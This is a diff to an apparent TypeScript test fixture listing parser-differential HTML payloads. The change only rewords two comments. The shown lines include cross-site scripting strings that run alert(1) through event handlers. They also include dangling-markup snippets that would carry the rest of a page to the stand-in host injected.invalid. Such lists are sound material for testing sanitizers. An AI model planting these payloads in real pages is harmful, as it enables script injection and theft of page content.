@@ -1,4 +1,4 @@
-/** Texts that one parser reads differently from another, or the second time differently from the first. */
+/** Texts that two parsers read differently, or that one parser reads differently the second time. */
 export const PARSING_PAYLOADS: Readonly<Record<string, readonly string[]>> = {
   SVG: [
     '<svg onload=alert(1)>',
@@ -106,7 +106,7 @@ export const PARSING_PAYLOADS: Readonly<Record<string, readonly string[]>> = {
     '<p =onclick=alert(1)>x</p><p\u00a0onclick=alert(1)>x</p>',
     '<p x="\n>\n<img src=x onerror=alert(1)>\n">x</p>',
     '<a href="https://ada.example/?<img src=x onerror=alert(1)>">x</a>',
-    "<img src='//injected.invalid/?", // What follows would be sent along.
+    "<img src='//injected.invalid/?", // The rest of the page would be sent as part of the address.
     '<a href="//injected.invalid/?',
     '<p title="',
     '<p title=x onclick=alert(1)',
